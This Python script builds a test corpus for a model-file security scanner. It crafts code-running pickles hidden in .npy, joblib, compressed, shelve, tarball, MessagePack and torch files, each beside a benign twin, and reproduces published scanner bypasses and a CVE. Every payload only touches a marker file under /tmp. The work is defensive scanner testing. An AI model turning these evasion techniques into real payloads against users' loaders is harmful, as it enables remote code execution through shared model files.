#!/usr/bin/python3
"""Writes tests/security/advisory/: one code-running file per class and
advisory of issue 39, each beside a benign twin of the same shape, and
expected.json, which test_scan_containers checks `scan` against (every case
flagged as its entry says, every twin clean unless the entry says why not).

    /usr/bin/python3 tests/security/make_advisory_corpus.py            # writes the files
    /usr/bin/python3 tests/security/make_advisory_corpus.py --verify   # runs them (below)

The classes: numpy .npy headers that only ast.literal_eval reads (comments,
implicit concatenation, \\x and \\u escapes, form feeds and CRs without a
trailing newline, a subarray dtype); joblib's LZ4 frames, its 'ZF' files,
an LZMA-alone stream pandas opens as '.xz', a skippable frame that is also
a pickle; pickles in key-value stores (shelve over dbm.dumb, dbm.gnu,
dbm.ndbm, dbm.sqlite3); joblib's inline arrays (a payload after an array,
array bytes that pickle.load reads as opcodes, an object array's nested
pickle); a SageMaker-style model.tar.gz; one of our MessagePack records
that is also a pickle; and the advisories: gh-154848 (a FRAME straddle),
CVE-2026-24747 (SETITEM on a rebuilt tensor whose storage is declared
larger than its record), a dotted STACK_GLOBAL through pathlib, a legacy
magic number computed by a call, numpy.size as an attribute getter after
BUILD, a loader that retries with weights_only=False.

Every payload only creates the file /tmp/torchport-advisory/<case> (an
empty file, with builtins.open or `touch`). --verify proves each case runs
its payload in its real consumer (numpy.load(allow_pickle=True) of numpy 1.24 and 2.3,
joblib.load, lzma.open + pickle.load as pandas does, pickle.load,
shelve.open, torch.load) and that each twin loads there without one: every
consumer runs in its own process, in a copy of the files under /tmp, with
no network (unshare -n) and as nobody (setpriv) when run as root. It needs
Debian 12's python3 with python3-torch, python3-numpy, python3-joblib,
python3-lz4, python3-gdbm (scripts/install-deps.sh --tests), and
scripts/torch.sh 2.6 (Python 3.13, for dbm.sqlite3 and torch 2.6's
weights_only) and current (zstandard). Never point any loader at these
files outside --verify.

Writing needs Python's standard library and numpy's, torch's, joblib's and
python-lz4's writers (the twins, the shelves through dbm itself); the output
is the same bytes on every run (fixed dates) but for the legacy torch files
(torch names their storages by address) and the Berkeley DB shelves (a
random file id).
"""

import argparse
import bz2  # noqa: F401  (kept with the other codecs joblib reads)
import io
import json
import lzma
import os
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "advisory")
REPO = os.path.dirname(os.path.dirname(HERE))
MARKS = "/tmp/torchport-advisory"

CASES = []  # dicts: name, case, twin, verdict, twin_verdict, global, reason, consumer, python, source


def mark(name):
    return f"{MARKS}/{name}"


# --- pickles, opcode by opcode ------------------------------------------------

def s_(text):
    """BINUNICODE."""
    t = text.encode()
    return b"X" + struct.pack("<I", len(t)) + t


def open_payload(name, proto=2, stop=True):
    """builtins.open('/tmp/torchport-advisory/<name>', 'w'): creates the file."""
    body = b"cbuiltins\nopen\n(" + s_(mark(name)) + s_("w") + b"tR"
    head = b"\x80" + bytes([proto]) if proto >= 2 else b""
    return head + body + (b"." if stop else b"")


def system_payload(name):
    return b"cposix\nsystem\n(" + s_(f"touch {mark(name)}") + b"tR."


def frame(body):
    return b"\x95" + struct.pack("<Q", len(body)) + body


# --- writers ------------------------------------------------------------------

def add(name, case, twin, verdict="unsafe", twin_verdict="clean", glob="", reason="calls",
        consumer="pickle", python="system", source="", ext="", twin_consumer=None, twin_python=None,
        also=()):
    """`case` and `twin` are bytes (one file) or {relative path: bytes} (a folder)."""
    CASES.append({"name": name, "file": name + ext, "twin": name + "_twin" + ext,
                  "case_data": case, "twin_data": twin, "verdict": verdict,
                  "twin_verdict": twin_verdict, "global": glob, "reason": reason,
                  "consumer": consumer, "python": python, "source": source,
                  "twin_consumer": twin_consumer or consumer, "twin_python": twin_python or python,
                  "also": also})


def npy(header, body):
    """An .npy (version 1.0) with `header` as it is (no padding added)."""
    h = header.encode("latin1")
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h + body


F8 = struct.pack("<d", 1.5)


def npy_cases():
    obj = lambda name: open_payload(name, proto=2)  # noqa: E731  (np.load: pickle.load of the data)
    variants = [
        ("npy_comment", "{'descr': '|O', 'fortran_order': False, 'shape': (1,), } # a note\n",
         "{'descr': '<f8', 'fortran_order': False, 'shape': (1,), } # a note\n", F8),
        ("npy_implicit_concat", "{'descr': '|' 'O', 'fortran_order': False, 'shape': (1,)}\n",
         "{'descr': '<' 'f8', 'fortran_order': False, 'shape': (1,)}\n", F8),
        ("npy_x_escape", "{'descr': '\\x7cO', 'fortran_order': False, 'shape': (1,)}\n",
         "{'descr': '\\x3cf8', 'fortran_order': False, 'shape': (1,)}\n", F8),
        ("npy_u_escape_key", "{'\\u0064escr': '|O', 'fortran_order': False, 'shape': (1,)}\n",
         "{'\\u0064escr': '<f8', 'fortran_order': False, 'shape': (1,)}\n", F8),
        ("npy_formfeed_cr", "{'descr':\x0c'|O',\r'fortran_order':\x0cFalse,\r'shape':(1,)}",
         "{'descr':\x0c'<f8',\r'fortran_order':\x0cFalse,\r'shape':(1,)}", F8),
        ("npy_subarray_object", "{'descr': '(2,)O', 'fortran_order': False, 'shape': (1,)}\n",
         "{'descr': [('a', '(2,)<f8')], 'fortran_order': False, 'shape': (1,)}\n", F8 + F8),
    ]
    for name, bad, good, body in variants:
        add(name, npy(bad, obj(name)), npy(good, body), glob="builtins.open", consumer="numpy",
            also=("current",),
            source="issue 39: a .npy header numpy reads with ast.literal_eval", ext=".npy")


def lz4_frame(data):
    import lz4.frame
    return lz4.frame.compress(data, content_checksum=True)


def joblib_bytes(obj, compress=0):
    import joblib
    with tempfile.TemporaryDirectory() as d:
        p = os.path.join(d, "x.joblib")
        joblib.dump(obj, p, compress=compress)
        return open(p, "rb").read()


class Payload:
    """Pickles as builtins.open(mark, 'w') (only ever pickled here)."""

    def __init__(self, name):
        self.name = name

    def __reduce__(self):
        return (open, (mark(self.name), "w"))


def arrays():
    import numpy as np
    return {"weight": np.arange(12, dtype=np.float32).reshape(3, 4), "bias": np.arange(3)}


def compression_cases():
    import numpy as np
    name = "joblib_lz4"
    add(name, joblib_bytes({"model": Payload(name)}, compress="lz4"), joblib_bytes(arrays(), compress="lz4"),
        glob="io.open", consumer="joblib", source="issue 39: joblib's LZ4 frames", ext=".joblib")
    name = "joblib_zfile"
    zf = lambda p: b"ZF" + hex(len(p)).encode().ljust(19) + zlib.compress(p)  # noqa: E731
    add(name, zf(open_payload(name)), zf(b"\x80\x02}q\x00X\x01\x00\x00\x00aK\x01s."),
        glob="builtins.open", consumer="joblib",
        source="joblib's format before 0.10 ('ZF', a hex size, zlib), which joblib.load still reads",
        ext=".joblib")
    name = "pandas_xz_lzma_alone"
    alone = lambda p: lzma.compress(p, format=lzma.FORMAT_ALONE, filters=[  # noqa: E731
        {"id": lzma.FILTER_LZMA1, "dict_size": 3 << 19, "lc": 0, "lp": 0, "pb": 0}])
    add(name, alone(open_payload(name)), alone(b"\x80\x02}q\x00."), glob="builtins.open",
        consumer="lzma", source="pandas.read_pickle('.xz'): lzma.open reads LZMA-alone with any "
        "properties byte (here 00, a 3 MiB dictionary)", ext=".pkl.xz")
    name = "zstd_skippable_polyglot"
    # A skippable frame's magic (55 2a 4d 18) is SHORT_BINSTRING of 0x2a
    # bytes; the pickle goes on inside the frame's content.
    content = b"A" * 36 + b"0" + open_payload(name, proto=0)
    skip = b"\x55\x2a\x4d\x18" + struct.pack("<I", len(content)) + content
    plain = b"\x5a\x2a\x4d\x18" + struct.pack("<I", 8) + b"metadata"
    zst = zstd_frame(b"\x80\x02}q\x00.")
    add(name, skip + zst, plain + zst, glob="builtins.open", consumer="pickle", twin_consumer="zstd",
        twin_python="current",
        source="a skippable frame (read past by zstandard and LZ4) that pickle.load reads as a "
        "string, then a payload", ext=".pkl.zst")
    del np


def zstd_frame(data):
    """A Zstandard frame of one raw block (no library needed)."""
    fhd = 0x20  # single segment, 1-byte content size
    assert len(data) < 256
    block = struct.pack("<I", (len(data) << 3) | 1)[:3]  # last block, raw
    return b"\x28\xb5\x2f\xfd" + bytes([fhd, len(data)]) + block + data


def shelve_cases():
    import dbm.dumb
    import dbm.gnu
    import dbm.ndbm
    import shelve

    def make(module, name, bad, protocol=4, pad=0):
        with tempfile.TemporaryDirectory() as d:
            base = os.path.join(d, "shelf")
            db = module.open(base, "c")
            with shelve.Shelf(db, protocol=protocol) as s:
                s["config"] = {"lr": 0.1, "layers": [64, 64]}
                # `pad`: a value longer than a page (Berkeley DB's overflow pages)
                s["model"] = {"pad": "x" * pad, "m": Payload(name) if bad else {"weight": [0.5] * 8}}
            out = {}
            for f in sorted(os.listdir(d)):
                out[f] = open(os.path.join(d, f), "rb").read()
            return out

    name = "shelve_dumb"
    add(name, make(dbm.dumb, name, True), make(dbm.dumb, name, False), glob="io.open",
        consumer="shelve", source="issue 39: shelve over dbm.dumb (NAME.dir lists offsets in NAME.dat)")
    for module, name, what in ((dbm.gnu, "shelve_gnu", "dbm.gnu"), (dbm.ndbm, "shelve_ndbm", "dbm.ndbm")):
        add(name, make(module, name, True), make(module, name, False), glob="io.open",
            consumer="shelve", source=f"issue 39: shelve over {what} (read as its library reads it)")
    # Protocol 0 has no PROTO header to find in the raw bytes: only a reading
    # of the store's own layout reaches it.
    name = "shelve_gnu_protocol0"
    add(name, make(dbm.gnu, name, True, protocol=0), make(dbm.gnu, name, False, protocol=0),
        glob="io.open", consumer="shelve",
        source="issue 39: shelve over dbm.gnu at pickle protocol 0 (no PROTO header)")
    name = "shelve_ndbm_overflow"
    add(name, make(dbm.ndbm, name, True, pad=20000), make(dbm.ndbm, name, False, pad=20000),
        glob="io.open", consumer="shelve",
        source="issue 39: shelve over dbm.ndbm, a value over Berkeley DB's overflow pages (the "
        "pickle is cut by page headers in the raw bytes)")
    name = "shelve_sqlite"
    add(name, {"shelf": sqlite_shelf(open_payload(name, proto=4))},
        {"shelf": sqlite_shelf(b"\x80\x04}\x94.")}, glob="builtins.open",
        consumer="shelve", python="2.6",
        source="issue 39: shelve over Python 3.13's dbm.sqlite3 (its table Dict, in WAL mode as "
        "Python leaves it)")
    name = "shelve_sqlite_protocol0"
    add(name, {"shelf": sqlite_shelf(open_payload(name, proto=0))},
        {"shelf": sqlite_shelf(b"(dp0\n.")}, glob="builtins.open", consumer="shelve", python="2.6",
        source="issue 39: dbm.sqlite3 at pickle protocol 0 (no PROTO header)")
    name = "shelve_sqlite_wal"
    add(name, sqlite_shelf(open_payload(name, proto=4), wal=True),
        sqlite_shelf(b"\x80\x04}\x94.", wal=True), verdict="unscannable", reason="dbm-store",
        twin_verdict="unscannable", consumer="shelve", python="2.6",
        source="issue 39: dbm.sqlite3 whose value is in the -wal file beside it (SQLite reads "
        "it as part of the database; the scan does not)")
    name = "shelve_sqlite_view"
    add(name, {"shelf": sqlite_shelf(open_payload(name, proto=4), view=True)},
        {"shelf": sqlite_shelf(b"\x80\x04}\x94.", view=True)}, verdict="unscannable", reason="dbm-store",
        twin_verdict="unscannable", consumer="shelve", python="2.6",
        source="issue 39: dbm.sqlite3 whose Dict is a view (its values are computed)")


def sqlite_shelf(value, wal=False, view=False):
    """A dbm.sqlite3 store of one value, as Python 3.13's Lib/dbm/sqlite3.py
    writes it (journal_mode=wal). `wal`: the value stays in the -wal file
    ({file: bytes} of both); `view`: Dict is a view that computes it."""
    import sqlite3
    with tempfile.TemporaryDirectory() as d:
        p = os.path.join(d, "shelf")
        c = sqlite3.connect(p, isolation_level=None)
        c.execute("PRAGMA journal_mode = wal")
        if view:
            c.execute("CREATE VIEW Dict AS SELECT CAST('model' AS BLOB) AS key, X'%s' AS value"
                      % value.hex())
        else:
            # BUILD_TABLE, as it writes it.
            c.execute("CREATE TABLE IF NOT EXISTS Dict (\n    key BLOB UNIQUE NOT NULL,\n"
                      "    value BLOB NOT NULL\n  )")
        if wal:
            c.execute("PRAGMA wal_checkpoint(TRUNCATE)")
            c.execute("PRAGMA wal_autocheckpoint = 0")
        if not view:
            c.execute("REPLACE INTO Dict (key, value) VALUES (CAST(? AS BLOB), CAST(? AS BLOB))",
                      (b"model", value))
        if wal:  # both files while the connection is open (closing checkpoints)
            out = {f: open(os.path.join(d, f), "rb").read() for f in ("shelf", "shelf-wal")}
            c.close()
            return out
        c.close()
        return open(p, "rb").read()


def joblib_cases():
    import numpy as np
    name = "joblib_after_array"
    add(name, joblib_bytes([np.arange(5.0), Payload(name), np.arange(3)]),
        joblib_bytes([np.arange(5.0), {"a": 1}, np.arange(3)]), glob="io.open", consumer="joblib",
        source="issue 39: joblib's inline arrays (raw bytes, then more opcodes)", ext=".joblib")
    name = "joblib_array_bytes_polyglot"
    # A NumpyArrayWrapper without numpy_array_alignment_bytes (joblib < 1.2):
    # its uint8 array's bytes follow BUILD; joblib reads them as data,
    # pickle.load as opcodes.
    def wrapper(raw):
        dtype = (b"cnumpy\ndtype\n(" + s_("u1") + b"\x89\x88tR"
                 + b"(K\x03" + s_("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb")
        state = (b"}(" + s_("subclass") + b"cnumpy\nndarray\n" + s_("shape") + b"J"
                 + struct.pack("<i", len(raw)) + b"\x85" + s_("order") + s_("C")
                 + s_("dtype") + dtype + s_("allow_mmap") + b"\x89u")
        return (b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81" + state + b"b" + raw + b".")
    add(name, wrapper(b"0" + open_payload(name, proto=0, stop=False) + b"0"), wrapper(bytes(range(1, 40))),
        glob="builtins.open", consumer="pickle", twin_consumer="joblib",
        source="array bytes that joblib reads as data and pickle.load as opcodes", ext=".joblib")
    name = "joblib_object_array"
    add(name, joblib_bytes(np.array([Payload(name), 1], dtype=object)),
        joblib_bytes(np.array([{"a": 1}, 1], dtype=object)), glob="io.open", consumer="joblib",
        source="joblib's object arrays: a nested pickle after the wrapper", ext=".joblib")


def torch_bytes(obj, **kw):
    import torch
    b = io.BytesIO()
    torch.save(obj, b, **kw)
    return b.getvalue()


def tar_gz(members):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz", format=tarfile.GNU_FORMAT) as t:
        for n, data in members:
            info = tarfile.TarInfo(n)
            info.size = len(data)
            info.mtime = 1767225600
            t.addfile(info, io.BytesIO(data))
    raw = out.getvalue()
    # gzip's header holds a time: fixed, so the bytes are the same each run.
    return raw[:4] + b"\x00\x00\x00\x00" + raw[8:]


def torch_zip(pkl, prefix="archive/"):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        for n, data in ((prefix + "data.pkl", pkl), (prefix + "version", b"3\n")):
            z.writestr(zipfile.ZipInfo(n, date_time=(2026, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


def container_cases():
    import torch
    state = {"weight": torch.arange(6.0).reshape(2, 3), "bias": torch.zeros(2)}
    name = "sagemaker_model_tar_gz"
    add(name, tar_gz([("model.pth", torch_zip(open_payload(name))), ("code/inference.py", b"# serve\n")]),
        tar_gz([("model.pth", torch_bytes(state)), ("code/inference.py", b"# serve\n")]),
        glob="builtins.open", consumer="sagemaker",
        source="issue 39: a SageMaker-style model.tar.gz is an archive, not torch's tar layout",
        ext=".tar.gz")
    name = "record_pickle_polyglot"
    add(name, record_polyglot(b"0" + open_payload(name, proto=0)), record_polyglot(b"\x00" * 8),
        glob="builtins.open", consumer="torch", twin_consumer="none",
        source="issue 39: one of our MessagePack records that torch.load runs as a legacy pickle",
        ext=".mpk")


# --- MessagePack, by hand ------------------------------------------------------

def mp(v):
    if v is None:
        return b"\xc0"
    if isinstance(v, bool):
        return b"\xc3" if v else b"\xc2"
    if isinstance(v, int):
        assert 0 <= v < 128
        return bytes([v])
    if isinstance(v, str):
        t = v.encode()
        assert len(t) < 32
        return bytes([0xa0 | len(t)]) + t
    if isinstance(v, bytes):
        assert len(v) < 256
        return b"\xc4" + bytes([len(v)]) + v
    if isinstance(v, list):
        return bytes([0x90 | len(v)]) + b"".join(mp(x) for x in v)
    if isinstance(v, dict):
        return bytes([0x80 | len(v)]) + b"".join(mp(k) + mp(x) for k, x in v.items())
    raise TypeError(v)


def record_polyglot(hidden):
    """A torchport-mpk record of 10 top-level entries: 0x8a is LONG1 to a
    pickle reader, whose length (the first key's fixstr byte, a6: 166)
    skips to byte 168, inside the 'pad' entry's bytes: `hidden` there."""
    tensor = {"__tensor__": {"dtype": "F32", "shape": [2], "data": struct.pack("<2f", 1.0, 2.0)}}
    head = [("format", "torchport-mpk"), ("version", 1), ("library", "0.1.0"), ("precision", "keep"),
            ("type", ""), ("metadata", {"torchport.layout": "pytorch"}), ("record", {"a": tensor})]
    body = b"".join(mp(k) + mp(v) for k, v in head)
    at = 1 + len(body) + len(mp("pad")) + 2  # where the pad's bytes start
    assert at <= 168, at
    pad = b"\x00" * (168 - at) + hidden
    body += mp("pad") + mp(pad) + mp("x1") + mp(None) + mp("x2") + mp(None)
    return b"\x8a" + body


def advisory_cases():
    import torch
    name = "frame_straddle_gh154848"
    # A FRAME that ends inside the argument of the SHORT_BINUNICODE naming
    # the module: CPython's C unpickler before 3.13.15 / 3.14.7 reads on
    # across it and runs the call; frame-honouring readers stop.
    body = b"\x8c\x05posix\x8c\x06system\x93" + b"\x8c" + bytes([len(f"touch {mark(name)}")]) + \
        f"touch {mark(name)}".encode() + b"\x85R."
    straddle = b"\x80\x04" + b"\x95" + struct.pack("<Q", 3) + body
    good = b"\x80\x04" + frame(b"}\x94(\x8c\x01a\x94K\x01u.")
    add(name, straddle, good, glob="", reason="frame-straddle", consumer="pickle",
        source="gh-154848: a FRAME whose last opcode's argument runs past it", ext=".pkl")
    name = "cve_2026_24747_setitem_tensor"
    add(name, cve_setitem(True), cve_setitem(False), verdict="unsafe", glob="", reason="oversized-storage",
        consumer="torch26", python="2.6",
        source="CVE-2026-24747: SETITEM on a rebuilt tensor whose storage is declared larger than "
        "its data/0 record (torch 2.6 to 2.9's weights_only load writes past it)", ext=".pt")
    name = "dotted_stack_global_pathlib"
    cmd = f"touch {mark(name)}"
    add(name, b"\x80\x04" + b"\x8c\x07pathlib\x8c\tos.system\x93\x8c" + bytes([len(cmd)]) + cmd.encode()
        + b"\x85R.", b"\x80\x04\x8c\x0bcollections\x8c\x0bOrderedDict\x93)R.",
        glob="pathlib.os.system", consumer="pickle",
        source="fickling GHSA-5j3x-jp52-966f: a dotted STACK_GLOBAL reaches os.system through pathlib",
        ext=".pkl")
    name = "legacy_magic_by_call"
    magic = (b"\x80\x02cbuiltins\neval\n(" + s_(f"__import__('os').system('touch {mark(name)}') "
             "or 0x1950A86A20F9469CFC6C") + b"tR.")
    legit = torch_bytes({"weight": torch.arange(4.0)}, _use_new_zipfile_serialization=False)
    n = len(legacy_magic_literal())
    assert legit[:n] == legacy_magic_literal()
    add(name, magic + legit[n:], legit, glob="builtins.eval", consumer="torch",
        source="picklescan GHSA-97f8-7cmv-76j2: a legacy file whose magic number is computed by a "
        "call", ext=".pt")
    name = "numpy_size_getter"
    cmd = f"__import__('os').system('touch {mark(name)}')"
    size_gadget = (b"\x80\x04" + b"\x8c\x05numpy\x8c\x04size\x93\x94\x94" + b"\x8c\x05numpy\x8c\x0c__builtins__\x93"
                   + b"\x94\x94" + b"h\x01}}" + s_("shape") + b"h\x03s\x86b" + b"h\x01h\x01" + s_("eval")
                   + b"\x86R" + s_(cmd) + b"\x85R.")
    add(name, size_gadget, pickle_of_array(), glob="numpy.size", consumer="pickle",
        source="modelscan #330: numpy.size as an attribute getter once BUILD has set its .shape",
        ext=".pkl")
    name = "retry_weights_only_false"
    add(name, torch_zip(open_payload(name)), torch_bytes({"w": torch.arange(3.0)}), glob="builtins.open",
        consumer="torch_retry",
        source="loaders that retry with weights_only=False when the safe load fails (.pt2 sample "
        "inputs, Stanza)", ext=".pt")


def legacy_magic_literal():
    return b"\x80\x02\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little") + b"."


def pickle_of_array():
    import numpy as np
    import pickle
    return pickle.dumps(np.arange(4.0), protocol=4)


def cve_setitem(bad):
    """A torch zip: one float tensor of 4 elements whose storage is declared
    as 1,048,576 elements (bad) over a 16-byte data/0 record, then
    SETITEM t[1048575] = 7.0 (bad)."""
    numel = 1 << 20 if bad else 4
    p = (b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n(("
         + b"X\x07\x00\x00\x00storagectorch\nFloatStorage\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpu"
         + b"J" + struct.pack("<i", numel) + b"tQK\x00J" + struct.pack("<i", numel) + b"\x85K\x01\x85"
         + b"\x89ccollections\nOrderedDict\n)RtR")
    if bad:
        p += b"J" + struct.pack("<i", numel - 1) + b"G" + struct.pack(">d", 7.0) + b"s"
    p += b"."
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        for n, data in (("archive/data.pkl", p), ("archive/data/0", struct.pack("<4f", 1, 2, 3, 4)),
                        ("archive/version", b"3\n"), ("archive/byteorder", b"little")):
            z.writestr(zipfile.ZipInfo(n, date_time=(2026, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


# --- writing ------------------------------------------------------------------

def build():
    npy_cases()
    compression_cases()
    shelve_cases()
    joblib_cases()
    container_cases()
    advisory_cases()


def write_item(path, data):
    if isinstance(data, dict):
        os.makedirs(path, exist_ok=True)
        for rel, b in data.items():
            with open(os.path.join(path, rel), "wb") as f:
                f.write(b)
    else:
        with open(path, "wb") as f:
            f.write(data)


def write():
    if os.path.isdir(OUT):
        shutil.rmtree(OUT)
    os.makedirs(OUT)
    entries = []
    for c in CASES:
        write_item(os.path.join(OUT, c["file"]), c["case_data"])
        write_item(os.path.join(OUT, c["twin"]), c["twin_data"])
        entries.append({k: c[k] for k in ("file", "twin", "verdict", "twin_verdict", "global", "reason",
                                          "consumer", "twin_consumer", "source")})
    with open(os.path.join(OUT, "expected.json"), "w") as f:
        json.dump(entries, f, indent=1)
        f.write("\n")
    print(f"wrote {len(entries)} cases and their twins to {OUT}")


# --- verification: each payload in its real consumer -----------------------------

CONSUMERS = {
    # what the loader does with the path (argv[1]); exit 0 when it loaded
    "numpy": "import numpy, sys; numpy.load(sys.argv[1], allow_pickle=True)",
    "joblib": "import joblib, sys; joblib.load(sys.argv[1])",
    "lzma": "import lzma, pickle, sys; pickle.load(lzma.open(sys.argv[1]))",
    "zstd": "import zstandard, pickle, sys; pickle.load(zstandard.ZstdDecompressor().stream_reader(open(sys.argv[1], 'rb')))",
    "pickle": "import pickle, sys; pickle.load(open(sys.argv[1], 'rb'))",
    "shelve": ("import os, shelve, sys\n"
               "p = sys.argv[1]; f = sorted(os.listdir(p))[0]\n"
               "base = os.path.join(p, f.rsplit('.', 1)[0] if f.endswith(('.dat', '.dir', '.bak', '.db')) else f)\n"
               "with shelve.open(base, 'r') as s:\n    [s[k] for k in list(s.keys())]"),
    "torch": "import torch, sys; torch.load(sys.argv[1], weights_only=False)",
    "torch_retry": ("import torch, sys\ntry:\n    torch.load(sys.argv[1], weights_only=True)\n"
                    "except Exception:\n    torch.load(sys.argv[1], weights_only=False)"),
    "torch26": "import torch, sys; torch.load(sys.argv[1])",
    "sagemaker": ("import os, sys, tarfile, tempfile, torch\n"
                  "d = tempfile.mkdtemp()\ntarfile.open(sys.argv[1]).extractall(d)\n"
                  "torch.load(os.path.join(d, 'model.pth'), weights_only=False)"),
    "none": "",
}


def sandbox_prefix():
    prefix = []
    if shutil.which("unshare") and subprocess.run(["unshare", "-n", "true"], capture_output=True).returncode == 0:
        prefix += ["unshare", "-n"]
    if os.geteuid() == 0 and shutil.which("setpriv"):
        prefix += ["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups"]
    return prefix


def python_argv(which):
    if which == "system":
        return ["/usr/bin/python3"]
    out = subprocess.run(["bash", os.path.join(REPO, "scripts", "torch.sh"), which, "argv"],
                         check=True, capture_output=True, text=True).stdout.split("\n")
    return [x for x in out if x]


def run_consumer(kind, python, path, prefix):
    code = CONSUMERS[kind]
    if not code:
        return None
    env = {"PATH": "/usr/bin:/bin", "HOME": "/tmp", "TMPDIR": "/tmp", "OMP_NUM_THREADS": "1",
           "PYTHONDONTWRITEBYTECODE": "1"}
    r = subprocess.run(prefix + python_argv(python) + ["-c", code, path], capture_output=True, text=True,
                       env=env, cwd="/tmp", timeout=120)
    return r


def verify():
    with open(os.path.join(OUT, "expected.json")) as f:
        entries = json.load(f)
    by_name = {c["file"]: c for c in CASES}
    prefix = sandbox_prefix()
    print("sandbox:", " ".join(prefix) or "none (not root)")
    os.makedirs(MARKS, exist_ok=True)
    os.chmod(MARKS, 0o1777)
    stage = tempfile.mkdtemp(prefix="torchport-advisory-")
    os.chmod(stage, 0o755)
    failures = runs_done = 0
    for e in entries:
        c = by_name[e["file"]]
        name = c["name"]
        runs = [("case", e["file"], c["consumer"], c["python"]),
                ("twin", e["twin"], c["twin_consumer"], c["twin_python"])]
        for extra in c["also"]:  # the same consumer under another Python (numpy 2.x)
            runs += [("case", e["file"], c["consumer"], extra), ("twin", e["twin"], c["twin_consumer"], extra)]
        for which, rel, kind, python in runs:
            src = os.path.join(OUT, rel)
            dst = os.path.join(stage, rel)
            if os.path.isdir(dst):
                shutil.rmtree(dst)
            if os.path.isdir(src):
                shutil.copytree(src, dst)
            else:
                shutil.copyfile(src, dst)
            for root, dirs, files in os.walk(stage):
                for x in dirs:
                    os.chmod(os.path.join(root, x), 0o777)
                for x in files:
                    os.chmod(os.path.join(root, x), 0o666)
            m = mark(name)
            if os.path.exists(m):
                os.remove(m)
            r = run_consumer(kind, python, dst, prefix)
            ran = os.path.exists(m)
            if which == "case":
                ok = ran or (kind == "torch26" and r is not None and
                             ("Weights only load failed" not in r.stderr))
                what = "payload ran" if ran else ("torch 2.6 accepted it" if ok else "payload did NOT run")
            else:
                ok = not ran and (r is None or r.returncode == 0)
                what = ("loads, no payload" if r is not None else "no loader to run (read as a record)") \
                    if ok else ("payload ran!" if ran else "did not load: " + (r.stderr.strip().splitlines() or ["?"])[-1])
            print(f"{'ok  ' if ok else 'FAIL'} {which} {rel} ({kind}, python {python}): {what}")
            failures += not ok
            runs_done += 1
    shutil.rmtree(stage, ignore_errors=True)
    print(f"{len(entries)} cases and their twins, {runs_done} runs: {failures} failed")
    return failures


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--verify", action="store_true", help="run each case and twin in its consumer")
    a = ap.parse_args()
    build()
    if a.verify:
        sys.exit(1 if verify() else 0)
    write()


if __name__ == "__main__":
    main()
